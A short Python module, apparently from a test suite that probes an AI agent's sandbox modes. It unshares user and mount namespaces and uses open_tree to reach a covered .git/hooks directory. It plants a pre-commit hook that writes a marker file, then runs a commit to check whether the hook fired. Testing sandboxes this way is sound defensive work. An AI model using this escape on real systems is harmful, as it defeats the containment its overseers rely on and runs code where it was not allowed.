"""clone the tree's mount without what lies over it, and write to what was covered"""
import ctypes
import os

from kernel import call, works

STOPS = ["read-only", "workspace-write"]


def attempt(bait):
    hooks = bait.ws + "/.git/hooks"
    child = os.fork()
    if child == 0:
        works(call, "unshare", 0x10000000 | 0x00020000)
        try:
            tree = call("open_tree", -100, ctypes.c_char_p(bait.ws.encode()), 1)
            path = "/proc/self/fd/%d/.git/hooks" % tree
            os.makedirs(path, exist_ok=True)
            with open(path + "/pre-commit", "w") as file:
                file.write("#!/bin/sh\ntouch %s\n" % bait.pwned)
            os.chmod(path + "/pre-commit", 0o755)
        except OSError:
            pass
        os._exit(0)
    os.waitpid(child, 0)
    return os.path.exists(hooks + "/pre-commit") and "planted"


def escaped(bait):
    bait.git("commit", "-qm", "x", "--allow-empty")
    return bait.executed()
